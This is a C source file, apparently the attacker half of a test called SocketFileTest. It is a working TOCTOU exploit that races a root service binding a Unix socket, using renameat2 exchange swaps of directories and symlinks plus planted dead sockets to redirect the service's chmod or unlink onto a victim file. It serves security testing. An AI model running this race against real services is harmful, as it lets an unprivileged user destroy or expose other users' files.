/*
 * The attacker of SocketFileTest: another user, in a directory it owns, racing a root service that binds and closes
 * the socket ATTACK_DIR/d/svc, to make that service chmod or delete a file in VICTIM_DIR.
 *
 * Usage: symlink_swap ATTACK_DIR VICTIM_DIR SECONDS
 *
 * Makes ATTACK_DIR/d (a directory), ATTACK_DIR/dl (a symbolic link to VICTIM_DIR) and d/lnk (a symbolic link to
 * VICTIM_DIR/victim), prints "READY", then runs three loops at once until SECONDS have passed or it is killed:
 *   - exchanges d and dl (renameat2 RENAME_EXCHANGE): ATTACK_DIR/d/svc is now the socket, now VICTIM_DIR/svc;
 *   - exchanges d/svc and d/lnk: the socket's own name is now the socket, now a link to VICTIM_DIR/victim;
 *   - every 100 us, leaves a dead socket at d/svc if nothing is there, so that the service's bind takes the
 *     stale-socket path (examine the file, probe it, unlink it).
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static time_t deadline;

static void die(const char *what) {
    perror(what);
    exit(2);
}

static void swap_directory(int attack) {
    while (time(NULL) < deadline) {
        renameat2(attack, "d", attack, "dl", RENAME_EXCHANGE);
    }
}

static void swap_name(int real) {
    while (time(NULL) < deadline) {
        renameat2(real, "svc", real, "lnk", RENAME_EXCHANGE);
    }
}

static void plant_dead_sockets(int real) {
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    snprintf(a.sun_path, sizeof a.sun_path, "/proc/self/fd/%d/svc", real);
    while (time(NULL) < deadline) {
        int s = socket(AF_UNIX, SOCK_SEQPACKET, 0);
        if (s < 0) {
            die("socket");
        }
        bind(s, (struct sockaddr *) &a, sizeof a); /* EADDRINUSE while something is there */
        close(s);
        usleep(100); /* the swaps are what must be fast; leave the CPU to them and to the service */
    }
}

static pid_t spawn(void (*loop)(int), int fd) {
    pid_t parent = getpid();
    pid_t pid = fork();
    if (pid < 0) {
        die("fork");
    }
    if (pid == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL); /* killing this program ends its loops too */
        if (getppid() != parent) {
            _exit(0);
        }
        loop(fd);
        _exit(0);
    }
    return pid;
}

int main(int argc, char **argv) {
    if (argc != 4) {
        fprintf(stderr, "usage: %s ATTACK_DIR VICTIM_DIR SECONDS\n", argv[0]);
        return 2;
    }
    deadline = time(NULL) + atoi(argv[3]);
    int attack = open(argv[1], O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (attack < 0) {
        die(argv[1]);
    }
    char victim[4096];
    snprintf(victim, sizeof victim, "%s/victim", argv[2]);
    if (mkdirat(attack, "d", 0755) < 0 || symlinkat(argv[2], attack, "dl") < 0) {
        die("setting up d and dl");
    }
    int real = openat(attack, "d", O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (real < 0 || symlinkat(victim, real, "lnk") < 0) {
        die("setting up d/lnk");
    }
    pid_t loops[] = {spawn(swap_directory, attack), spawn(swap_name, real), spawn(plant_dead_sockets, real)};
    printf("READY\n");
    fflush(stdout);
    for (int i = 0; i < 3; i++) {
        waitpid(loops[i], NULL, 0);
    }
    return 0;
}
